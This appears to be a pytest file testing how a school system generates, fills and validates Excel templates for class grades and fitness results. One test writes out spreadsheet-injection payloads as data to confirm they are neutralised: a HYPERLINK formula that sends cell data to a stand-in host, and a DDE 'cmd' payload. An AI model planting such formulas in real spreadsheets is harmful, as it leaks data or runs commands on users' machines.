"""The pre-filled template workbook (导出模板 → 填写 → 导入): what a teacher downloads, fills in
Excel (openpyxl here) or LibreOffice, and uploads; the engine must accept what they typed."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from collections.abc import Mapping, Sequence
from datetime import date
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from shared.ingest import Roster, validate_bytes
from shared.ingest.result import ValidationResult
from shared.templates import Template, builtin_registry
from shared.templates.workbook import (
    DATA_SHEET,
    GUIDE_SHEET,
    LISTS_SHEET,
    RosterEntry,
    template_workbook,
)
from shared.term import Term
from tests.helpers import sid

CLASS = "七年级(3)班"
TERM = Term.parse("2024-2025-1")
TODAY = date(2024, 12, 1)
HEADER_ROW, FIRST_ROW = 2, 3  # as the spreadsheet shows them: one title row, then the header
SCORE_FIXED = {"subject": "数学", "assessment_type": "期中考试", "assessment_date": "2024-11-08"}
# Students of 七年级(3)班: 学籍号 with an odd sequence number for boys, even for girls.
STUDENTS = [
    (RosterEntry(sid(day=1, seq=11), "王梓涵"), "男"),
    (RosterEntry(sid(day=2, seq=12), "李欣怡"), "女"),
    (RosterEntry(sid(day=3, seq=13), "张浩宇"), "男"),
    (RosterEntry(sid(day=4, seq=14), "陈思雨"), "女"),
]
ROSTER = [student for student, _ in STUDENTS]


def template(template_id: str) -> Template:
    return builtin_registry().get(template_id)


def roster_of(students: Sequence[RosterEntry], class_name: str = CLASS) -> Roster:
    return Roster(
        pa.array([s.student_no for s in students]),
        pa.array([s.name for s in students]),
        pa.array([class_name] * len(students)),
    )


def data_sheet(data: bytes) -> Worksheet:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def columns_of(sheet: Worksheet) -> dict[str, int]:
    """Header → 1-based column index."""
    return {cell.value: cell.column for cell in sheet[HEADER_ROW] if cell.value}


def validations(sheet: Worksheet) -> dict[str, object]:
    """Header → the data validation that covers its first data cell."""
    found = {}
    for header, col in columns_of(sheet).items():
        coordinate = sheet.cell(FIRST_ROW, col).coordinate
        for validation in sheet.data_validations.dataValidation:
            if coordinate in validation.sqref:
                found[header] = validation
    return found


def fill(data: bytes, cells: Mapping[str, Mapping[str, object]]) -> bytes:
    """Type values into the rows of the given 学籍号 (by header), as a teacher would."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    columns = columns_of(sheet)
    rows = {sheet.cell(r, columns["学籍号"]).value: r for r in range(FIRST_ROW, sheet.max_row + 1)}
    for student_no, values in cells.items():
        for header, value in values.items():
            sheet.cell(rows[student_no], columns[header]).value = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def validate(data: bytes, template_id: str, students: Sequence[RosterEntry]) -> ValidationResult:
    return validate_bytes(
        data,
        template(template_id),
        filename="模板.xlsx",
        roster=roster_of(students),
        term=TERM,
        today=TODAY,
    )


def accepted_rows(result: ValidationResult) -> list[dict[str, object]]:
    assert result.accepted is not None
    return result.accepted.drop_columns(["source_row"]).to_pylist()


# ----------------------------------------------------------------------------------- scores

SCORES: dict[str, dict[str, object]] = {
    ROSTER[0].student_no: {"得分": 85},
    ROSTER[1].student_no: {"得分": "缺考"},
    ROSTER[2].student_no: {"得分": 92.5, "备注": "补考后成绩"},
    ROSTER[3].student_no: {"得分": 60, "满分": 120},
}


def score_workbook() -> bytes:
    return template_workbook(
        template("academic-score"),
        title="2024学年第一学期 七年级数学期中考试",
        roster=ROSTER,
        fixed=SCORE_FIXED,
        class_name=CLASS,
    )


def test_roster_rows_are_prefilled_locked_and_the_rest_is_open() -> None:
    # Given a class roster and a task that fixes the subject and the date
    data = template_workbook(
        template("academic-score"),
        title="七年级数学成绩",
        roster=ROSTER,
        fixed={"subject": "数学", "assessment_date": "2024-11-08"},
        class_name=CLASS,
    )

    # When the teacher opens it
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    columns = columns_of(sheet)

    # Then the data sheet comes first, named after the class, and the guide follows
    assert book.sheetnames[:2] == [CLASS, GUIDE_SHEET]
    # the header row holds the template's headers exactly, locked, under one title row
    assert list(columns) == [c.header for c in template("academic-score").columns]
    assert "七年级数学成绩" in sheet.cell(1, 1).value
    assert all(sheet.cell(HEADER_ROW, c).protection.locked for c in columns.values())
    # one row per student, 学籍号 as text (never 3.10112E+17), with name, class and fixed values
    for offset, student in enumerate(ROSTER):
        row = FIRST_ROW + offset
        number = sheet.cell(row, columns["学籍号"])
        assert number.value == student.student_no
        assert number.data_type == "s"
        assert number.number_format == "@"
        assert sheet.cell(row, columns["姓名"]).value == student.name
        assert sheet.cell(row, columns["班级"]).value == CLASS
        assert sheet.cell(row, columns["学科"]).value == "数学"
        assert sheet.cell(row, columns["考核日期"]).value.date() == date(2024, 11, 8)
        assert sheet.cell(row, columns["考核日期"]).number_format == "yyyy-mm-dd"
        for header in ("学籍号", "姓名", "班级", "学科", "考核日期"):
            assert sheet.cell(row, columns[header]).protection.locked, header
        for header in ("考核类型", "得分", "满分", "备注"):
            cell = sheet.cell(row, columns[header])
            assert cell.value is None
            assert not cell.protection.locked, header
    assert sheet.cell(FIRST_ROW + len(ROSTER), columns["学籍号"]).value is None
    # the sheet is protected without a password; formatting allowed, sorting and filters not
    protection = sheet.protection
    assert protection.sheet
    assert not protection.password
    assert not protection.formatColumns  # openpyxl: False means "not protected", i.e. allowed
    assert not protection.formatRows
    assert protection.sort
    assert protection.autoFilter


def test_every_column_says_what_to_write_and_enums_have_dropdowns() -> None:
    # Given a roster workbook where the task fixes the subject but not the kind of assessment
    data = template_workbook(
        template("academic-score"),
        title="成绩",
        roster=ROSTER,
        fixed={"subject": "数学"},
        class_name=CLASS,
    )

    # When its validations are read
    found = validations(data_sheet(data))

    # Then every column has an input message
    assert set(found) == {c.header for c in template("academic-score").columns}
    assert all(v.showInputMessage and v.prompt and v.promptTitle for v in found.values())
    # the open enum column is a dropdown of the template's values
    kind = found["考核类型"]
    assert kind.type == "list"
    assert (
        kind.formula1.strip('"').split(",")
        == template("academic-score").column("assessment_type").values
    )
    # a score may be a word, so it is explained rather than restricted
    score = found["得分"]
    assert score.type is None
    assert "0–1000 的数字" in score.prompt
    assert "缺考、免考、缓考" in score.prompt
    # full marks are a number in range; the date a date; the remark has a length limit
    assert (found["满分"].type, found["满分"].formula1, found["满分"].formula2) == (
        "decimal",
        "1",
        "1000",
    )
    assert "1–1000" in (found["满分"].error or "")
    assert "2024-11-08" in found["考核日期"].prompt
    assert (found["备注"].type, found["备注"].formula1) == ("textLength", "200")
    # pre-filled columns say so instead of offering a dropdown
    assert found["学科"].type is None
    assert "预填" in found["学科"].prompt


def test_a_teacher_fills_scores_and_the_engine_accepts_them() -> None:
    # Given the downloaded workbook, filled with numbers, a 缺考 and a remark
    filled = fill(score_workbook(), SCORES)

    # When it is uploaded
    result = validate(filled, "academic-score", ROSTER)

    # Then every row is accepted with what was typed and what the system pre-filled
    assert result.status == "accepted", result.row_errors
    assert result.rows_accepted == len(ROSTER)
    rows = accepted_rows(result)
    assert [r["student_no"] for r in rows] == [s.student_no for s in ROSTER]
    assert [r["name"] for r in rows] == [s.name for s in ROSTER]
    assert {r["class_name"] for r in rows} == {CLASS}
    assert {r["subject"] for r in rows} == {"数学"}
    assert {r["assessment_type"] for r in rows} == {"期中考试"}
    assert {r["assessment_date"] for r in rows} == {date(2024, 11, 8)}
    assert [r["score"] for r in rows] == [85.0, None, 92.5, 60.0]
    assert [r["score_status"] for r in rows] == [None, "缺考", None, None]
    assert [r["full_marks"] for r in rows] == [100.0, 100.0, 100.0, 120.0]
    assert [r["remark"] for r in rows] == [None, None, "补考后成绩", None]


# ---------------------------------------------------------------------------------- fitness

FITNESS_FIXED = {"test_date": "2024-10-15", "grade": "7"}
BOY_ITEMS: dict[str, object] = {
    "身高": 160.5,
    "体重": 50.2,
    "肺活量": 2800,
    "50米跑": 8.1,
    "坐位体前屈": 6.5,
    "立定跳远": 205,
    "引体向上": 4,
    "1000米跑": "4'05\"",
}
GIRL_ITEMS: dict[str, object] = {
    "身高": 155.0,
    "体重": 45.8,
    "肺活量": 2300,
    "50米跑": 9.2,
    "坐位体前屈": 12.0,
    "一分钟仰卧起坐": 38,
    "立定跳远": 170,
    "800米跑": "3'50\"",
}


def fitness_cells() -> dict[str, dict[str, object]]:
    """Each grade-7 student's items for their gender; one boy could not run (免测)."""
    cells = {}
    for student, gender in STUDENTS:
        items = dict(BOY_ITEMS if gender == "男" else GIRL_ITEMS)
        cells[student.student_no] = {"性别": gender, **items}
    cells[ROSTER[2].student_no]["1000米跑"] = "免测"
    return cells


def fitness_workbook() -> bytes:
    return template_workbook(
        template("fitness-test"),
        title="2024学年体质健康测试",
        roster=ROSTER,
        fixed=FITNESS_FIXED,
        class_name=CLASS,
    )


def test_fitness_items_say_whom_they_apply_to_and_gender_is_a_dropdown() -> None:
    # Given the fitness template for a class, with the test date and grade fixed
    sheet = data_sheet(fitness_workbook())

    # When its columns are read
    found = validations(sheet)
    columns = columns_of(sheet)

    # Then the grade is pre-filled as a teacher writes it, gender is a 男/女 dropdown
    assert sheet.cell(FIRST_ROW, columns["年级"]).value == "七年级"
    assert found["性别"].type == "list"
    assert found["性别"].formula1 == '"男,女"'
    # and each item's message says whom it applies to and which words stand for no result
    assert "七年级至高三男生" in found["引体向上"].prompt
    assert "三年级至六年级学生" in found["一分钟仰卧起坐"].prompt
    assert "七年级至高三女生" in found["一分钟仰卧起坐"].prompt
    assert "免测、缺测" in found["1000米跑"].prompt
    assert "3'45\"" in found["1000米跑"].prompt
    # a time typed as 3:45 must stay text (Excel would read it as hours)
    assert sheet.cell(FIRST_ROW, columns["1000米跑"]).number_format == "@"


def test_a_teacher_fills_fitness_results_and_the_engine_accepts_them() -> None:
    # Given the fitness workbook filled per grade and gender
    filled = fill(fitness_workbook(), fitness_cells())

    # When it is uploaded
    result = validate(filled, "fitness-test", ROSTER)

    # Then every student is accepted with the typed results
    assert result.status == "accepted", result.row_errors
    assert result.rows_accepted == len(ROSTER)
    rows = accepted_rows(result)
    assert {r["grade"] for r in rows} == {7}
    assert {r["test_date"] for r in rows} == {date(2024, 10, 15)}
    assert [r["gender"] for r in rows] == ["男", "女", "男", "女"]
    assert [r["pull_ups"] for r in rows] == [4, None, 4, None]
    assert [r["sit_ups"] for r in rows] == [None, 38, None, 38]
    assert [r["run_1000m_s"] for r in rows] == [245.0, None, None, None]
    assert [r["run_1000m_s_status"] for r in rows] == [None, None, "免测", None]
    assert [r["run_800m_s"] for r in rows] == [None, 230.0, None, 230.0]


# ------------------------------------------------------------------------------ LibreOffice


@pytest.fixture(scope="module")
def soffice_profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A LibreOffice user profile of this test process's own, so parallel runs don't clash."""
    # Not a skip: a template that LibreOffice or WPS breaks must not pass unnoticed.
    assert shutil.which("soffice"), "LibreOffice is missing: `make test` installs it (apt)"
    return tmp_path_factory.mktemp("soffice-profile")


def resave_in_libreoffice(data: bytes, profile: Path, work: Path) -> bytes:
    """Open and save the workbook as LibreOffice Calc does (its own XLSX writer)."""
    source, out = work / "in", work / "out"
    source.mkdir()
    out.mkdir()
    (source / "filled.xlsx").write_bytes(data)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(source / "filled.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return (out / "filled.xlsx").read_bytes()


@pytest.mark.parametrize(
    ("template_id", "workbook", "cells"),
    [
        ("academic-score", score_workbook, lambda: SCORES),
        ("fitness-test", fitness_workbook, fitness_cells),
    ],
    ids=["academic-score", "fitness-test"],
)
def test_a_workbook_saved_by_libreoffice_is_accepted_with_the_same_values(
    template_id: str,
    workbook: object,
    cells: object,
    soffice_profile: Path,
    tmp_path: Path,
) -> None:
    # Given a filled workbook, and the same file opened and saved again in LibreOffice Calc
    filled = fill(workbook(), cells())  # type: ignore[operator]
    resaved = resave_in_libreoffice(filled, soffice_profile, tmp_path)
    assert resaved != filled

    # When both are uploaded
    direct = validate(filled, template_id, ROSTER)
    via_libreoffice = validate(resaved, template_id, ROSTER)

    # Then LibreOffice's file is accepted with exactly the same records
    assert via_libreoffice.status == "accepted", via_libreoffice.row_errors
    assert via_libreoffice.rows_accepted == len(ROSTER)
    assert accepted_rows(via_libreoffice) == accepted_rows(direct)
    assert via_libreoffice.accepted is not None
    assert via_libreoffice.accepted.column("source_row").to_pylist() == [3, 4, 5, 6]


# ------------------------------------------------------------------- formulas (R19), blank


def test_text_that_looks_like_a_formula_is_written_as_neutral_text() -> None:
    # Given a roster name and a title a spreadsheet would take for formulas
    hostile = '=HYPERLINK("http://example.invalid/?"&A3,"点我")'
    data = template_workbook(
        template("academic-score"),
        title="+cmd|' /C calc'!A0",
        roster=[RosterEntry(sid(day=5), hostile), RosterEntry(sid(day=6), "＝1+1")],
        class_name=CLASS,
    )

    # When the workbook is opened
    sheet = data_sheet(data)
    name = sheet.cell(FIRST_ROW, columns_of(sheet)["姓名"])

    # Then the cells hold text with a leading apostrophe, and the package has no formula
    assert name.data_type == "s"
    assert name.value == "'" + hostile
    assert sheet.cell(FIRST_ROW + 1, 2).value == "'＝1+1"
    assert sheet.cell(1, 1).value.startswith("'+cmd")
    package = zipfile.ZipFile(io.BytesIO(data))
    sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
    assert sheets
    assert not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)


def test_a_blank_workbook_has_dropdowns_and_validates_two_typed_rows() -> None:
    # Given a workbook without a roster, for a task that fixes subject, kind and date
    data = template_workbook(
        template("academic-score"), title="数学期中考试", fixed=SCORE_FIXED, blank_rows=20
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    columns = columns_of(sheet)
    found = validations(sheet)

    # Then the header is there, no row is pre-filled, the rows are open to typing
    assert book.sheetnames[:2] == [DATA_SHEET, GUIDE_SHEET]
    assert list(columns) == [c.header for c in template("academic-score").columns]
    assert all(
        sheet.cell(row, col).value is None
        for row in range(FIRST_ROW, FIRST_ROW + 20)
        for col in columns.values()
    )
    assert not sheet.cell(FIRST_ROW + 19, columns["学籍号"]).protection.locked
    # the fixed values are shown in the title and offered as the only choice
    assert "学科：数学" in sheet.cell(1, 1).value
    assert found["学科"].type == "list"
    assert found["学科"].formula1 == '"数学"'
    assert str(found["学科"].sqref) == f"D{FIRST_ROW}:D{FIRST_ROW + 19}"
    assert "统一填写：2024-11-08" in found["考核日期"].prompt
    assert (found["考核日期"].type, found["考核日期"].operator) == ("date", "equal")

    # When a teacher types two students by hand and uploads the file
    students = [RosterEntry(sid(day=7, seq=21), "周一诺"), RosterEntry(sid(day=8, seq=22), "吴悦")]
    for offset, (student, score) in enumerate(zip(students, (88, "免考"), strict=True)):
        row = FIRST_ROW + offset
        typed = {
            "学籍号": student.student_no,
            "姓名": student.name,
            "班级": CLASS,
            "学科": "数学",
            "考核类型": "期中考试",
            "考核日期": date(2024, 11, 8),
            "得分": score,
        }
        for header, value in typed.items():
            sheet.cell(row, columns[header]).value = value
    buffer = io.BytesIO()
    book.save(buffer)
    result = validate(buffer.getvalue(), "academic-score", students)

    # Then both rows are accepted
    assert result.status == "accepted", result.row_errors
    assert result.rows_accepted == 2
    rows = accepted_rows(result)
    assert [r["score"] for r in rows] == [88.0, None]
    assert [r["score_status"] for r in rows] == [None, "免考"]


# ---------------------------------------------------------------------------- guide, lists


def test_the_guide_explains_the_task_the_columns_and_the_care_of_personal_data() -> None:
    # Given a roster workbook
    book = openpyxl.load_workbook(io.BytesIO(score_workbook()))

    # When the 说明 sheet is read
    guide = book[GUIDE_SHEET]
    text = "\n".join(str(c.value) for row in guide.iter_rows() for c in row if c.value)
    rows = {row[0]: row[1:3] for row in guide.iter_rows(values_only=True) if row[0]}

    # Then it names the template and the task's fixed values
    assert "学业成绩" in text
    assert "学科：数学" in text
    assert "考核日期：2024-11-08" in text
    # one row per column, with whether it is required and how to fill it
    assert rows["表头"] == ("是否必填", "填写说明")
    for column in template("academic-score").columns:
        assert rows[column.header][0] == ("必填" if column.required else "选填")
    assert "缺考" in rows["得分"][1]
    # the three steps and the warnings
    assert all(step in text for step in ("① 填写", "② 保存", "③ 上传"))
    assert "不能修改" in text
    assert "未成年人个人信息" in text
    assert "微信群" in text
    assert guide.protection.sheet


def test_a_list_too_long_for_excel_goes_to_a_hidden_sheet() -> None:
    # Given a district template whose enum has more values than a validation formula holds
    places = [f"闵行区第{n}实践基地" for n in range(1, 41)]
    district = Template.model_validate(
        {
            "id": "practice-place",
            "version": 1,
            "name": "社会实践",
            "owner": "district",
            "columns": [
                {"key": "student_no", "header": "学籍号", "type": "student_no", "required": True},
                {"key": "name", "header": "姓名", "type": "text", "required": True},
                {"key": "place", "header": "实践基地", "type": "enum", "values": places},
            ],
            "unique": ["student_no", "place"],
        }
    )
    assert len(",".join(places)) > 255

    # When its workbook is generated
    book = openpyxl.load_workbook(io.BytesIO(template_workbook(district, title="社会实践")))

    # Then the dropdown refers to a hidden sheet holding every value
    validation = validations(book.worksheets[0])["实践基地"]
    assert validation.type == "list"
    assert LISTS_SHEET in validation.formula1
    lists = book[LISTS_SHEET]
    assert lists.sheet_state == "hidden"
    assert [row[0] for row in lists.iter_rows(values_only=True)] == places


@pytest.mark.parametrize(
    ("class_name", "sheet_name"),
    [
        (None, DATA_SHEET),
        ("高一(2)班", "高一(2)班"),
        ("初二[1]/3:班?", "初二13班"),
        ("说明", DATA_SHEET),
        ("一" * 40, "一" * 31),
    ],
)
def test_the_data_sheet_is_named_after_the_class_as_far_as_excel_allows(
    class_name: str | None, sheet_name: str
) -> None:
    data = template_workbook(template("academic-score"), title="成绩", class_name=class_name)
    assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames[0] == sheet_name


def test_fixed_values_must_name_template_columns() -> None:
    from shared.exceptions import InvalidInput

    with pytest.raises(InvalidInput):
        template_workbook(template("academic-score"), title="成绩", fixed={"colour": "红"})
    with pytest.raises(InvalidInput):
        template_workbook(
            template("academic-score"), title="成绩", fixed={"assessment_date": "11月8日"}
        )
